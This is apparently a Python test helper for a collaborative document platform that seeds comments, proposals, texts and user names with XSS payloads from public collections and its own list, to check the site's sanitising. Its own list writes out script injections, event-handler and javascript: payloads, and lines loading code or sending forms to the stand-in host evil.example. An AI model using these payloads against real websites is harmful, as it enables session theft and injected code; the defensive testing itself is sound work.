"""Puts hostile texts on record in every place where people's words stand: comments, proposals, texts, names."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from itertools import count
from pathlib import Path

import corpora

from tests.conftest import Server
from wgec_living.domain.errors import Invalid
from wgec_living.domain.events import ChangeType, Event, Kind
from wgec_living.domain.identifiers import DocumentPath, Handle
from wgec_living.domain.people import Person, Role
from wgec_living.domain.roster import person_file
from wgec_living.services import contributing, founding, inviting
from wgec_living.services.recording import recording
from wgec_living.store.record import MAIN

OTHERS = (
    "bleach-data",
    "dompurify-expect",
    "html5lib-sanitizer-loofah",
    "justhtml-sanitize",
    "markdown-it-xss",
    "owasp-filter-evasion",
)
BATCH = 50
# Ends whatever an earlier text may have left open (a comment, an attribute, an element of raw text), so that with
# the layers off one payload cannot hide the next ones from the browser.
END_OF_ANYTHING = (
    "\n\n<!-- --><b '\">\n\n</textarea></title></style></script></xmp></noscript></iframe></noembed></noframes>"
    "</template></select></svg></math></object></table>\n"
)
OUR_OWN = (
    "<script>window.wgecRan = 1; alert('own script')</script>",
    "<img src=x onerror=alert('own_image')>",
    "<svg onload=alert('own_drawing')>",
    "<details open ontoggle=alert('own_details')>",
    "<iframe srcdoc=\"<script>parent.alert('own frame')</script>\"></iframe>",
    "<a href=\"javascript:alert('own link')\">link</a>",
    "[link](javascript:alert('own_markdown'))",
    '<script src="http://evil.example/run.js"></script>',
    '<img src="http://evil.example/seen.png">',
    '<link rel="stylesheet" href="http://evil.example/look.css">',
    '<form action="http://evil.example/take"><button formaction="javascript:alert(1)">send</button></form>',
    '<base href="http://evil.example/">',
    "\"><script>alert('own attribute')</script>",
    "'\"><img src=x onerror=alert(1)>",
    "</title><script>alert('own title')</script>",
    "</textarea><script>alert('own field')</script>",
    "{{ 7*7 }}{% for x in () %}",
)


def is_leading_away(payload: str) -> bool:
    """Say whether the text, taken as HTML, only leads to another address, which no content policy forbids."""
    folded = payload.lower()
    return "http-equiv" in folded and "refresh" in folded and "url=http" in folded


def xss() -> list[str]:
    """Return every payload of the collections once, and a few of our own."""
    cases = [case for name in OTHERS for case in corpora.shared(f"xss/{name}.json")]
    found = [corpora.markup_of(case) for case in [*cases, *corpora.own("markdown-authored.json")]]
    # One collection was copied from a page that shows its spaces as no-break ones, which no browser reads as spaces.
    return list(dict.fromkeys([*OUR_OWN, *(text.replace("\u00a0", " ") for text in found)]))


def chosen() -> list[str]:
    """Return a few dozen payloads that are also given pages of their own."""
    short = [text for text in xss() if len(text) <= 150 and text.isprintable() and not is_leading_away(text)]
    return [*OUR_OWN, *short[len(OUR_OWN) :: 29]]


def naughty() -> list[str]:
    """Return the list of naughty strings."""
    return [str(text) for text in corpora.shared("strings/blns.json")]


def batches(texts: Sequence[str], size: int = BATCH) -> Iterator[list[str]]:
    """Yield `texts` by fifties, those that open a code block at the end, where it swallows no other."""
    ordered = sorted(texts, key=lambda text: "```" in text or "~~~" in text)
    for start in range(0, len(ordered), size):
        yield ordered[start : start + size]


def fives(texts: Sequence[str], between: str, size: int = 5) -> list[str]:
    """Return `texts` a few together, each a paragraph of its own."""
    return [between.join(texts[start : start + size]) for start in range(0, len(texts), size)]


@dataclass
class Hostile:
    """What was put on record, and at which addresses it can be read."""

    pages: dict[str, list[str]] = field(default_factory=dict)
    """Addresses with the payloads that stand there."""
    refused: list[str] = field(default_factory=list)
    """Texts that were not taken."""
    leading_away: str = ""
    """The page of the one kind of payload that no content policy concerns."""

    def at(self, address: str, payloads: Sequence[str]) -> None:
        """Note where payloads stand."""
        self.pages[address] = list(payloads)


def put_on_record(server: Server, folder: Path) -> Hostile:
    """Put all payloads on record as comments, texts, comparisons, proposals and names."""
    made = Hostile()
    payloads = [text for text in xss() if not is_leading_away(text)]
    # Markdown's own inventions stand in comments of their own; HTML does its worst a few to a comment as well.
    alone = [text for text in payloads if "](" in text or "]:" in text or "```" in text]
    others = fives([text for text in payloads if text not in alone], END_OF_ANYTHING)
    for batch in batches([*alone, *others]):
        made.at(_comments(server, batch, made.refused), batch)
    away = [text for text in xss() if is_leading_away(text)]
    made.leading_away = _comments(server, away, made.refused)
    strings = naughty()
    for batch in batches(fives(strings, "\n\n", 10)):
        made.at(_comments(server, batch, made.refused), batch)
    for payload in chosen():
        made.at(_alone(server, payload), [payload])
    numbers = count(1)
    for batch in batches([*payloads, *(text for text in strings if text.strip())], 100):
        for address in _texts(server, folder, next(numbers), batch):
            made.at(address, batch)
    made.at("/people", _names(server, payloads, made))
    for layout in ("ours", "iso", "w3c"):
        made.at(f"/report?order=number&layout={layout}", [])
    return made


def _comments(server: Server, batch: Sequence[str], refused: list[str]) -> str:
    """Put each payload into a comment of one thread, the first also as its title."""
    number = None
    for payload in batch:
        body = payload + END_OF_ANYTHING
        try:
            if number is None:
                document = server.site.index.texts.document(DocumentPath("short"))
                sent = contributing.Submission(Kind.COMMENT, document.path, document.commit, body)
                number = contributing.submit(server.site, server.ana, sent).number
            else:
                contributing.reply(server.site, server.boris, number, body)
        except Invalid:
            refused.append(payload)
    assert number is not None
    return f"/contributions/{number}"


def _alone(server: Server, payload: str) -> str:
    """Make a proposal whose title, reason and words are the payload, and nothing else."""
    document = server.site.index.texts.document(DocumentPath("short"))
    sent = contributing.Submission(
        Kind.PROPOSAL,
        document.path,
        document.commit,
        payload,
        (server.block("The first paragraph"),),
        title=payload,
        replacement=payload,
    )
    return f"/contributions/{contributing.submit(server.site, server.ana, sent).number}"


def _texts(server: Server, folder: Path, number: int, batch: Sequence[str]) -> list[str]:
    """Make a document whose second revision holds the payloads, and a proposal that would bring them in."""
    path = f"hostile-{number}"
    head = f"---\ntitle: {json.dumps(batch[0], ensure_ascii=False)}\nlanguage: en\n---\n\n"
    plain = "\n\n".join(f"Paragraph number {place}." for place in range(len(batch)))
    kept = [text for text in batch if text.isprintable() or "\n" in text]
    bad = head + "\n\n".join(
        text + (END_OF_ANYTHING if place < 40 else "") for place, text in enumerate(kept)
    )
    bad = "".join(c for c in bad if c.isprintable() or c in "\n\t")
    file = folder / f"{path}.md"
    file.write_text(head + plain + "\n", "utf-8")
    founding.import_document(server.site, file, path)
    document = server.site.index.texts.document(DocumentPath(path))
    title = batch[-1][:200]
    sent = contributing.Submission(
        Kind.PROPOSAL,
        document.path,
        document.commit,
        f"Why: {kept[-1]}",
        title=title if title.isprintable() else "",
        text=bad,
        change_type=ChangeType.EDITORIAL,
    )
    receipt = contributing.submit(server.site, server.ana, sent)
    file.write_text(bad, "utf-8")
    founding.import_document(server.site, file, path)
    return [
        f"/documents/{path}",
        f"/documents/{path}/compare/1...2",
        f"/contributions/{receipt.number}",
    ]


def _names(server: Server, payloads: Sequence[str], made: Hostile) -> list[str]:
    """Give people hostile names: through the confirmation what it takes, the rest as an administrator's push."""
    taken: list[str] = []
    with server.app.app_context():
        for place, name in enumerate(text for text in payloads if len(text) <= 120):
            if set(name) & set("<>") or len(taken) >= 15:
                continue
            try:
                taken.append(_confirmed(server, place, name))
            except Invalid:
                made.refused.append(name)
    pushed = [text for text in payloads if "<" in text][:60]
    people = [
        Person(Handle(f"pushed-{place}"), name, pushed[-place], "Civil society", Role.CONTRIBUTOR)
        for place, name in enumerate(pushed)
    ]
    with recording(server.site) as recorder:
        tree = recorder.writer.tree_with(
            server.site.record.commit(recorder.main).tree,
            {f"people/{person.handle}.yml": person_file(person) for person in people},
        )
        speaker = recorder.speaker(replace(people[0], name="Somebody", delegation="Somewhere"))
        event = Event(Kind.ROSTER, "Take people in", "", speaker, server.clock(), handle=people[0].handle)
        recorder.put(MAIN, recorder.main, event, tree, (recorder.main,))
    return [*taken, *pushed]


def _confirmed(server: Server, place: int, name: str) -> str:
    """Take somebody of this name and delegation in, and let them speak once."""
    address = f"named-{place}@people.example"
    details = {"name": name, "delegation": name, "group": "civil-society", "role": "contributor"}
    inviting.invite(server.site, None, address=address, **details)
    account = inviting.members.account_by_address(address)
    assert account is not None
    person = inviting.confirm(server.site, account.id, name, name)
    document = server.site.index.texts.document(DocumentPath("short"))
    sent = contributing.Submission(Kind.COMMENT, document.path, document.commit, name, title=name)
    contributing.submit(server.site, person, sent)
    return name
